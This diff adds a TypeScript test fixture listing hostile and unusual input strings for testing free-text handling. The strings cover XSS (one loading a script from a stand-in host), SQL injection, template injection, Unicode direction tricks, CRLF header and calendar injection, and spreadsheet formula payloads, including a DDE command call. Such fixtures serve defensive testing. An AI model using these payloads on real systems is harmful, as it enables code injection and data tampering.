@@ -1,0 +1,53 @@
+/** What people type who wish us ill, or whose text is only unusual: for the tests of everything in which free text stands. */
+export const hostileTexts: readonly string[] = [
+  // Runs where it is taken for HTML.
+  '<script>alert(1)</script>',
+  '"><script src=//truffa.example></script>',
+  '<img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '</title><script>alert(1)</script>',
+  '</textarea><iframe srcdoc="<script>alert(1)</script>">',
+  '<a href="javascript:alert(1)">premi</a>',
+  '"onmouseover="alert(1)',
+  '<style>*{display:none}</style>',
+  '<!--<b>-->]]>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;b&#62;',
+  // Is part of the statement where it is put into one.
+  "'; drop table booking; --",
+  "' or '1'='1",
+  '$1 $userId ?',
+  '\\x27 \\',
+  '%_%',
+  // Is worked out where it is taken for a template.
+  '{{7*7}} #{7*7} <%= 7*7 %>',
+  '$& $` $1',
+  '__proto__',
+  // Turns round what follows, or is seen by nobody.
+  'Falchi\u202egnp.exe',
+  '\u2066Falchi\u2069\u200b',
+  '\u200b\u200c\u200d\ufeff',
+  'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
+  'Mezzo emoji \ud83c',
+  'NUL \0 dentro',
+  'Cento \u001b[31mrosso \u0007',
+  '🏳️‍🌈 👩🏽‍🚒 🎾',
+  'x'.repeat(10_240),
+  // Adds a line where lines mean something: in a letter's head, a calendar, a log.
+  'Ciao\r\nBcc: tutti@truffa.example',
+  'Ciao\nSubject: Altro\n\n<b>corpo</b>',
+  'Ciao%0d%0aBcc:tutti@truffa.example',
+  'Ciao\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Altro',
+  'Ciao;ATTENDEE=mailto:tutti@truffa.example,:\\n',
+  '{"level":60,"msg":"falso"}\n{"level":60}',
+  'Riga\u2028seconda\u2029terza\u0085quarta',
+  // Is worked out where a spreadsheet reads it.
+  '=HYPERLINK("https://truffa.example";"premi")',
+  "+1+cmd|'/C calc'!A0",
+  '-2+3',
+  '@SUM(1)',
+  '\t=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '"=1+1";"altro"',
+]
